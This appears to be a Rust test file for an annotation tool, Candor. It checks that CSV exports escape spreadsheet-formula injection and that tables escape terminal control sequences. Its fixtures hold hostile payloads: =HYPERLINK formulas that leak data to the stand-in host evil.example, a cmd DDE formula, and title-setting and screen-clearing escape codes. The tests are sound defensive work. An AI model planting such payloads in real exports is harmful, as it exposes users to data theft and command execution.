//! What Candor prints and exports is data, never commands: a CSV cell never
//! runs as a spreadsheet formula, and a table or a finding never sends the
//! terminal an escape sequence from the case.

use candor::edit::{self, Edit};
use candor::model::{AnnotatorId, ArticleId, CategoryId, LinkKind, MarkId};
use candor::text::CharRange;

use crate::util::{candor, case_with, marked, ok, stdout};

const TEXT: &str = "Officials called the campaigners a mob. Organisers said the camp was peaceful.";

/// A case in `root` whose `key` annotator has one claim and one actor with
/// the given names, each linking a mark on "mob", and whose article's
/// outlet is `outlet`.
fn case_named(root: &std::path::Path, claim: &str, actor: &str, outlet: &str) {
    let mut case = case_with(root, &[("wire", TEXT)]);
    case.manifest_mut().expect("writable").articles[0].outlet = outlet.into();
    let ids = marked(
        &mut case,
        "key",
        "wire",
        "Officials called the campaigners a [mob]{loaded}. Organisers said the camp was peaceful.",
    );
    let key = AnnotatorId::new("key");
    for (kind, name) in [(LinkKind::Claim, claim), (LinkKind::Actor, actor)] {
        let (e, _) = edit::new_link(&case, &key, kind, name, &ids[0]);
        e.apply(&mut case).expect("linked");
    }
    case.save().expect("save");
}

#[test]
fn a_csv_cell_that_starts_like_a_formula_is_written_as_text() {
    let dir = tempfile::tempdir().expect("tempdir");
    let formula = r#"=HYPERLINK("http://evil.example/?leak","click")"#;
    case_named(dir.path(), formula, "-2+3", "@SUM(A1:A9)");
    let compare = candor(&["compare", ".", "--format", "csv"], dir.path());
    ok(&compare);
    let stats = candor(&["stats", ".", "--format", "csv"], dir.path());
    ok(&stats);
    let mut cells = Vec::new();
    for out in [stdout(&compare), stdout(&stats)] {
        for table in out.split("\n\n") {
            let mut r = csv::ReaderBuilder::new()
                .has_headers(false)
                .flexible(true)
                .from_reader(table.as_bytes());
            for record in r.records() {
                cells.extend(record.expect("valid CSV").iter().map(str::to_string));
            }
        }
    }
    for c in &cells {
        assert!(
            !c.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "a live formula: {c:?}"
        );
    }
    for written in [format!("'{formula}"), "'-2+3".into(), "'@SUM(A1:A9)".into()] {
        assert!(cells.contains(&written), "{written} not in {cells:?}");
    }
}

#[test]
fn escape_sequences_from_the_case_are_shown_escaped_in_tables_and_findings() {
    let dir = tempfile::tempdir().expect("tempdir");
    // Set the terminal's title, then clear the screen.
    let nasty = "\u{1b}]0;owned\u{7}\u{1b}[2J\u{9b}31m";
    case_named(dir.path(), nasty, "line\nbreak", "Wire");
    // A hand-edited marks file: a mark whose id is an escape sequence and
    // whose quote is nowhere in the text, so `check` names it.
    let mut case = candor::case::Case::open(dir.path()).expect("open");
    let (key, wire) = (AnnotatorId::new("key"), ArticleId::new("wire"));
    let mut orphan = case
        .mark_with_id(
            MarkId::new("m\u{1b}[2J"),
            &wire,
            CharRange::new(0, 9),
            &CategoryId::new("loaded"),
        )
        .expect("mark");
    orphan.quote = "rioters".into();
    Edit::AddMark {
        annotator: key,
        article: wire,
        mark: orphan,
    }
    .apply(&mut case)
    .expect("added");
    case.save().expect("save");

    let table = candor(&["compare", "."], dir.path());
    ok(&table);
    let check = candor(&["check", "."], dir.path());
    ok(&check);
    for o in [&table, &check] {
        let raw: Vec<u8> = o
            .stdout
            .iter()
            .copied()
            .filter(|b| *b < 0x20 && *b != b'\n')
            .collect();
        assert!(raw.is_empty(), "raw control bytes {raw:?} in {}", stdout(o));
        assert!(!stdout(o).contains('\u{9b}'), "{}", stdout(o));
    }
    assert!(
        stdout(&table).contains(r"\u{1b}]0;owned\u{7}\u{1b}[2J\u{9b}31m"),
        "{}",
        stdout(&table)
    );
    assert!(
        stdout(&table).contains(r"line\u{a}break"),
        "{}",
        stdout(&table)
    );
    assert!(
        stdout(&check).contains(r"mark m\u{1b}[2J is an orphan"),
        "{}",
        stdout(&check)
    );
}

/// A case whose every text field starts like a formula: the case's and the
/// article's titles, outlet and date, category names, notes, claim labels
/// and actor names, free-text attributes, the quote and its context, and
/// the ids that may start with `-` (article, annotator, category, mark,
/// claim, actor). Annotators `key` and `-9-9` mark the same article.
fn formula_case(root: &std::path::Path) {
    use candor::model::{Actor, Claim, LinkId, Links};
    let text = "=SUM(A1) Officials said-2+3 the camp was cleared by @crew today.";
    let mut case = case_with(root, &[("-2-2", text)]);
    {
        let m = case.manifest_mut().expect("writable");
        m.title = "=cmd|' /C calc'!A0".into();
        let a = &mut m.articles[0];
        a.title = r#"=HYPERLINK("http://evil.example/?t","title")"#.into();
        a.outlet = "+outlet".into();
        a.date = "-03-03".into();
    }
    {
        let schema = case.schema_mut().expect("writable");
        for c in &mut schema.categories {
            if c.id.as_str() == "editorializing" {
                c.id = CategoryId::new("-e-e");
            }
            c.name = format!("@{}", c.name);
        }
    }
    let key_ids = marked(
        &mut case,
        "key",
        "-2-2",
        "[=SUM(A1)]{loaded target=\"=HYPERLINK(\\\"http://evil.example\\\")\" note=\"@SUM(A1)\"} Officials [said]{attribution source=\"+source\" cue=\"\tcue\" note=\"=HYPERLINK(\\\"http://evil.example/?n\\\",\\\"click\\\")\"}-2+3 the camp was cleared by [@crew]{-e-e note=\"\rnote\"} today.",
    );
    let student_ids = marked(
        &mut case,
        "-9-9",
        "-2-2",
        "[=SUM(A1)]{loaded target=\"-target\" note=\"+note\"} Officials [said]{loaded note=\"\tnote\"}-2+3 the camp was [cleared]{attribution source=\"@source\" cue=\"=cue\"} by [@crew]{-e-e} today.",
    );
    let (key, wire) = (AnnotatorId::new("key"), ArticleId::new("-2-2"));
    let extra = case
        .mark_with_id(
            MarkId::new("-5-5"),
            &wire,
            CharRange::new(51, 56),
            &CategoryId::new("loaded"),
        )
        .expect("a mark on @crew");
    Edit::AddMark {
        annotator: key,
        article: wire,
        mark: extra,
    }
    .apply(&mut case)
    .expect("added");
    for (who, ids) in [("key", key_ids), ("-9-9", student_ids)] {
        Edit::SetLinks {
            annotator: AnnotatorId::new(who),
            links: Links {
                claims: vec![Claim {
                    id: LinkId::new("-c-c"),
                    label: "=claim".into(),
                    marks: ids[1..2].to_vec(),
                    note: "@claim note".into(),
                }],
                actors: vec![Actor {
                    id: LinkId::new("-a-a"),
                    name: "+actor".into(),
                    marks: ids[..1].to_vec(),
                    note: "-actor note".into(),
                }],
                ..Links::new()
            },
        }
        .apply(&mut case)
        .expect("links");
    }
    case.save().expect("saved");
}

/// Every cell of a CSV output, the blank-line-separated tables of one
/// output read each on its own (they have different columns).
fn csv_cells(out: &str) -> Vec<String> {
    let mut cells = Vec::new();
    for table in out.split("\n\n") {
        let mut r = csv::ReaderBuilder::new()
            .has_headers(false)
            .flexible(true)
            .from_reader(table.as_bytes());
        for record in r.records() {
            cells.extend(record.expect("valid CSV").iter().map(str::to_string));
        }
    }
    cells
}

/// A number Candor wrote (`-0.018`): a spreadsheet reads it as a number,
/// not a formula.
fn is_plain_number(c: &str) -> bool {
    let digits = c.strip_prefix('-').unwrap_or(c);
    let mut parts = digits.splitn(2, '.');
    parts.all(|p| !p.is_empty() && p.bytes().all(|b| b.is_ascii_digit()))
}

/// `grade --format csv` wrote a key's `=HYPERLINK(...)` note and an id such
/// as `-2-2` as live formulas, while the other commands' CSV escaped them.
/// Every command that writes CSV now goes through one writer; this runs
/// each of them on a case whose every text field starts like a formula.
#[test]
fn grade_csv_wrote_live_formulas_from_a_hostile_case() {
    let dir = tempfile::tempdir().expect("tempdir");
    let root = dir.path().join("case");
    formula_case(&root);
    let runs: [&[&str]; 9] = [
        &["stats", "case", "--format", "csv"],
        &["compare", "case", "--format", "csv"],
        &["grade", "case", "--all", "--format", "csv"],
        &["grade", "case", "--student=-9-9", "--format", "csv"],
        &[
            "grade",
            "case",
            "--all",
            "--partial-credit",
            "--format",
            "csv",
        ],
        &["agree", "case", "--format", "csv"],
        &["agree", "case", "--by", "article", "--format", "csv"],
        &[
            "grade", "case", "--all", "--format", "csv", "--out", "grades",
        ],
        &["export", "case", "--format", "csv", "--out", "marks"],
    ];
    let mut outputs = Vec::new();
    for args in runs {
        let o = candor(args, dir.path());
        ok(&o);
        outputs.push((args.join(" "), stdout(&o)));
    }
    // The two runs that write files print where; their CSV is in the file.
    outputs[7].1 =
        std::fs::read_to_string(dir.path().join("grades/grades.csv")).expect("grades.csv");
    outputs[8].1 = std::fs::read_to_string(dir.path().join("marks/marks.csv")).expect("marks.csv");
    let mut all = Vec::new();
    for (run, out) in &outputs {
        let cells = csv_cells(out);
        let live: Vec<&String> = cells
            .iter()
            .filter(|c| c.starts_with(['=', '+', '-', '@', '\t', '\r']) && !is_plain_number(c))
            .collect();
        assert!(live.is_empty(), "candor {run}: live formulas {live:?}");
        assert!(
            cells.iter().any(|c| c.starts_with('\'')),
            "candor {run}: no hostile text reached the CSV:\n{out}"
        );
        all.extend(cells);
    }
    for written in [
        r#"'=HYPERLINK("http://evil.example/?n","click")"#,
        "'-2-2",
        "'-9-9",
        "'-e-e",
        "'-5-5",
        "'=claim",
        "'+actor",
        "'+outlet",
        "'@SUM(A1)",
        "'\tcue",
        "'\rnote",
        "'=SUM(A1)",
        "'-c-c",
        "'-a-a",
        "'-03-03",
        "'=cue",
        "'-target",
        "'@source",
        "'+source",
        r#"'=HYPERLINK("http://evil.example/?t","title")"#,
        "'@Loaded wording",
    ] {
        assert!(
            all.iter().any(|c| c == written),
            "{written:?} not in any CSV"
        );
    }
}
